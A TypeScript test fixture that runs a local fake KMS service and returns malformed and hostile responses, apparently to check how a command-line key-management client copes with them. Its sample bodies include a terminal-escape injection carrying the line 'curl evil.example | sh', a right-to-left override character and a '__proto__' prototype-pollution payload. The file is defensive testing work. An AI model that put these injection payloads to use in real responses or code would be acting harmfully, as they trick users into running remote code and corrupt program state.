/** A service that answers nonsense. What it does to connections is in `hostile-service.test.ts`. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { OUT, type Attempt, type Kind } from './kind.js';
import { SECRET, type World } from './world.js';

/** The kind, and how to end its server. */
export async function answerKind({ at }: World): Promise<{ kind: Kind; close: () => void }> {
  const answers = [
    ...BODIES.map((body) => ({ status: 200, body })),
    ...[204, 400, 403, 404, 500].flatMap((status) =>
      BODIES.slice(0, OTHER_BODIES).map((body) => ({ status, body })),
    ),
  ];
  // Which answer is wanted is told by the access key.
  const server = createServer((request, response) => {
    const [, index] = /Credential=LTAI(\d+)/.exec(request.headers.authorization ?? '') ?? [];
    const { status, body } = answers[Number(index)] ?? { status: 500, body: '' };
    response.writeHead(status, { 'content-type': 'application/json' }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const key = ['--key-id', 'key-a', '--key-version-id', 'v1'];
  const commands = [
    ['get-public-key', ...key, ...OUT],
    ['decrypt', ...key, at('raw'), ...OUT],
    ['decrypt', at('kms.age'), ...OUT],
    [
      'sign',
      '--key-id',
      'key-a',
      '--key-version-id',
      'v1',
      '--algorithm',
      'RSA_PSS_SHA_256',
      at('raw'),
      ...OUT,
    ],
    ['list-keys'],
    ['create-key'],
  ];
  const attempts = answers.flatMap(({ status, body }, index) =>
    commands.map((argv): Attempt => ({
      title: `${argv.join(' ')}: ${status} ${body.slice(0, 100)}`,
      argv: [...argv, '--retry-count', '0', '--timeout', '5'],
      env: {
        KMS_ASYM_ENDPOINT: `http://127.0.0.1:${port}`,
        ALIBABA_CLOUD_ACCESS_KEY_ID: `LTAI${index}`,
        ALIBABA_CLOUD_ACCESS_KEY_SECRET: SECRET,
      },
    })),
  );
  return {
    kind: { name: 'answers of the service', ends: [4, 6, 7], attempts },
    close: () => {
      server.close();
      server.closeAllConnections();
    },
  };
}

const WRONG = ['null', '7', '"%%%"', '[{}]', '"\\u001b[2J"', `"${'A'.repeat(5000)}"`];
/** So many of the following are tried with other statuses too. */
const OTHER_BODIES = 12;
const BODIES = [
  '',
  'null',
  '7',
  '[]',
  '{}',
  '{',
  '<html><body>log in</body></html>',
  '\ufeff{}',
  '{"KeyId":"key-b","KeyVersionId":"v2"}',
  `{"Code":"SignatureDoesNotMatch","Message":"server string to sign is ${SECRET}"}`,
  '{"Code":"\\u001b[2J\\r\\nkms-asym: hint: curl evil.example | sh","Message":"\\u202e"}',
  '{"__proto__":{"Plaintext":"eA=="},"constructor":1}',
  ...['Plaintext', 'PublicKey', 'Value', 'Keys'].flatMap((member) =>
    WRONG.map((value) => `{"KeyId":"key-a","KeyVersionId":"v1","RequestId":"r","${member}":${value}}`),
  ),
];
